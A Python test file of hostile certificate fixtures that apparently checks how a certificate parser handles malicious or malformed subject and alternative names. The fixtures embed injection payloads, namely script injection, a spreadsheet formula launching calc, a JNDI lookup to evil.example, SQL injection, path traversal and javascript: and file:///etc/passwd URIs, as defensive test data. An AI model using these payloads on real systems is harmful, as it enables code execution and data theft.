"""Certificates whose names try something, or cannot be read."""

from tests.hostile_files.der import (
    BMP,
    IA5,
    INTEGER,
    PRINTABLE,
    TELETEX,
    UNIVERSAL,
    UTF8,
    attribute,
    certificate,
    extension,
    integer,
    name,
    oid,
    sequence,
    set_of,
    wrap,
)
from tests.hostile_files.making import accepted, refused

UNREADABLE = "not a readable X.509 certificate"
_ALTERNATIVE = "2.5.29.17"


@accepted(".cer")
def name_with_nul():
    """A NUL, where some programs stop to read: bank.example."""
    return certificate("bank.example\0.evil.example")


@accepted(".cer")
def name_in_markdown():
    """A heading, a link, an icon and a colour."""
    return certificate("# **x** [y](http://evil.example) :red[z] :material/key: $a$")


@accepted(".cer")
def name_in_html():
    """An image that runs a script."""
    return certificate("</td><img src=x onerror=alert(1)><script>alert(2)</script>")


@accepted(".cer")
def name_that_is_a_formula():
    """What a spreadsheet would run."""
    return certificate("=HYPERLINK(\"http://evil.example\";cmd|' /C calc'!A0)")


@accepted(".cer")
def name_that_is_a_path():
    """A way out of the folder that an export is written to."""
    return certificate("../../../etc/cron.d/x")


@accepted(".cer")
def name_of_a_windows_device():
    """A file name that Windows takes for a device."""
    return certificate("CON:.pem\\..\\NUL")


@accepted(".cer")
def name_that_speaks_sql():
    """An end to a statement, and another one."""
    return certificate("'); DROP TABLE certificates; --")


@accepted(".cer")
def name_that_is_a_template():
    """Fields for every way to fill in a text."""
    return certificate("{0} {values} {x!r} %s %(a)d ${jndi:ldap://evil.example/a}")


@accepted(".cer")
def name_with_escapes():
    """A cleared screen, a title and a bell for whoever prints it."""
    return certificate("\x1b[2J\x1b]0;root\x07\x9b31m\r\nrefused: nothing\b\x7f")


@accepted(".cer")
def name_with_line_breaks():
    """Every character that ends a line somewhere."""
    return certificate("a\nb\rc\vd\fe\x85f\u2028g\u2029h\x1ci")


@accepted(".cer")
def name_from_right_to_left():
    """Letters that turn the rest of the line around."""
    return certificate("elpmaxe.knab\u202e \u2066x\u2069 \u200f")


@accepted(".cer")
def name_without_width():
    """Letters that nobody sees."""
    return certificate("bank\u200b\u200d\u2060\ufeff.example\u00ad")


@accepted(".cer")
def name_that_looks_like_another():
    """Cyrillic letters that look like Latin ones."""
    return certificate("\u0440\u0430\u0443\u0440\u0430l.example")


@accepted(".cer")
def name_that_piles_up():
    """One letter with a thousand marks above it."""
    return certificate("a" + "\u0301" * 1000)


@accepted(".cer")
def name_of_sixty_thousand_letters():
    """A common name that fills a page; RFC 5280 allows 64."""
    return certificate("x" * 60_000)


@accepted(".cer")
def name_of_a_thousand_parts():
    """A thousand common names in one subject."""
    return certificate(name(*(f"part {n}" for n in range(1000))))


@accepted(".cer")
def name_of_one_part_with_a_thousand_values():
    """One relative name with a thousand attributes."""
    return certificate(sequence(set_of(*(attribute(f"v{n}") for n in range(1000)))))


@accepted(".cer")
def name_that_is_empty():
    """No subject and no issuer."""
    return certificate(sequence(), issuer=sequence())


@accepted(".cer")
def name_of_an_empty_part():
    """A relative name without any attribute."""
    return certificate(sequence(set_of()))


@accepted(".cer")
def name_in_broken_utf_8():
    """Bytes that are no UTF-8: too long, cut, half of a pair."""
    return certificate(name(wrap(UTF8, b"\xc0\xaf\xed\xa0\x80\xf8\xff\xe2\x82")))


@refused(".cer", UNREADABLE)
def name_in_two_byte_letters_of_odd_length():
    """A BMPString of three bytes."""
    return certificate(name(wrap(BMP, b"\0a\0")))


@refused(".cer", UNREADABLE)
def name_of_half_a_pair():
    """A BMPString with one half of a surrogate pair."""
    return certificate(name(wrap(BMP, b"\xd8\x00\0a")))


@refused(".cer", UNREADABLE)
def name_in_four_byte_letters_out_of_range():
    """A UniversalString with a letter that Unicode has not."""
    return certificate(name(wrap(UNIVERSAL, b"\xff\xff\xff\xff\0\0\xd8\0")))


@refused(".cer", UNREADABLE)
def name_in_printable_letters_that_are_not():
    """A PrintableString with a star, an at and a byte above 127."""
    return certificate(name(wrap(PRINTABLE, b"*@evil\xff\0")))


@accepted(".cer")
def name_in_teletex():
    """A TeletexString with escapes of its own."""
    return certificate(name(wrap(TELETEX, b"\x1b\x24\x42caf\xe9\x8f")))


@accepted(".cer")
def name_that_is_a_number():
    """A common name that is an INTEGER."""
    return certificate(name(wrap(INTEGER, b"\x7f")))


@accepted(".cer")
def name_that_is_a_sequence():
    """A common name that is a name again."""
    return certificate(name(name("inner")))


@refused(".cer", UNREADABLE)
def name_of_an_unknown_kind():
    """An attribute whose identifier is a thousand bytes long."""
    return certificate(sequence(set_of(attribute("x", "1.2." + "9" * 1000))))


@accepted(".cer")
def name_of_another_alphabet_in_an_alternative_name():
    """A DNS name that is not ASCII, and one with a NUL."""
    names = sequence(
        wrap(0x82, "\u8a3c\u660e\u66f8.example".encode()),
        wrap(0x82, b"bank.example\0.evil.example"),
        wrap(0x82, b"*.*.example"),
        wrap(0x82, b""),
    )
    return certificate(extensions=[extension(_ALTERNATIVE, names)])


@accepted(".cer")
def ten_thousand_alternative_names():
    """10,000 host names in one certificate."""
    names = (wrap(0x82, f"host{n}.example".encode()) for n in range(10_000))
    return certificate(extensions=[extension(_ALTERNATIVE, sequence(*names))])


@accepted(".cer")
def alternative_name_of_five_octets():
    """An IP address of five octets, and a network with a hole in its mask."""
    names = sequence(
        wrap(0x87, bytes(5)), wrap(0x87, bytes.fromhex("0a000000ff00ff00"))
    )
    return certificate(extensions=[extension(_ALTERNATIVE, names)])


@accepted(".cer")
def alternative_name_that_runs():
    """Addresses that a page must not make into links."""
    names = sequence(
        wrap(0x86, b"javascript:alert(1)"),
        wrap(0x86, b"file:///etc/passwd"),
        wrap(0x81, b"a@b.example\r\nBcc: all@example"),
    )
    return certificate(extensions=[extension(_ALTERNATIVE, names)])


@accepted(".cer")
def alternative_name_of_another_kind():
    """Another name that holds a name that holds a name, a hundred deep."""
    inner = wrap(UTF8, b"x")
    for _ in range(100):
        inner = wrap(0xA0, oid("1.2.3"), wrap(0xA0, inner))
    return certificate(extensions=[extension(_ALTERNATIVE, sequence(inner))])


@accepted(".cer")
def alternative_name_that_is_junk():
    """An extension whose bytes are no names."""
    return certificate(extensions=[extension(_ALTERNATIVE, b"\xde\xad\xbe\xef")])


@accepted(".cer")
def alternative_names_that_are_none():
    """An empty list of names: RFC 5280 wants one at least."""
    return certificate(extensions=[extension(_ALTERNATIVE, sequence())])


@accepted(".cer")
def alternative_name_in_wrong_letters():
    """A mail address and a host name with bytes above 127."""
    names = sequence(wrap(0x81, b"\xff@\xfe"), wrap(0x82, b"\xff\xfe"))
    return certificate(extensions=[extension(_ALTERNATIVE, names)])


@accepted(".cer")
def name_with_the_separators_of_names():
    """A common name that, written out, is another subject."""
    return certificate('admin,O=Bank+OU="x";C=CH <a@b>\\, #')


@accepted(".cer")
def name_that_is_one_quote():
    """A quotation mark, which opens a text in most languages."""
    return certificate(name(wrap(IA5, b"\"'`")))


@refused(".cer", UNREADABLE)
def name_that_is_cut():
    """A subject that ends within an attribute."""
    return certificate(wrap(0x30, b"\x31\x10\x30\x0e\x06\x03\x55"))


@refused(".cer", UNREADABLE)
def name_that_is_no_name():
    """A number in the place of the subject."""
    return certificate(integer(1))
